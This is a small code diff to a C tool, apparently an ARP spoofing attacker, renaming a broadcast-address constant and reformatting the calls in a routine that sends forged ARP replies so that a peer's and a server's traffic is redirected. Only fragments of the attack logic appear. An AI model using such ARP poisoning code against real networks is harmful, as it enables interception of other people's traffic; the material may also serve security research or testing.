@@ -41,7 +41,7 @@ struct advertisement {
 	uint8_t mac[6];
 } __attribute__((packed));
 
-static const uint8_t all_stations[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
+static const uint8_t all_netifs[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
 
 static void arp(struct wh_attacker *attacker, uint16_t operation, const struct wh_address *sender,
 	const struct wh_address *target, const uint8_t to_mac[6])
@@ -73,9 +73,8 @@ static void moved(struct wh_attacker *attacker)
 				attacker->server_mac);
 			arp(attacker, operation, &attacker->server, &attacker->peer,
 				attacker->peer_mac);
-			arp(attacker, operation, &attacker->peer, &attacker->peer, all_stations);
-			arp(attacker, operation, &attacker->server, &attacker->server,
-				all_stations);
+			arp(attacker, operation, &attacker->peer, &attacker->peer, all_netifs);
+			arp(attacker, operation, &attacker->server, &attacker->server, all_netifs);
 		}
 		wh_attack_sleep_ms(LIES_GAP_MS);
 	}
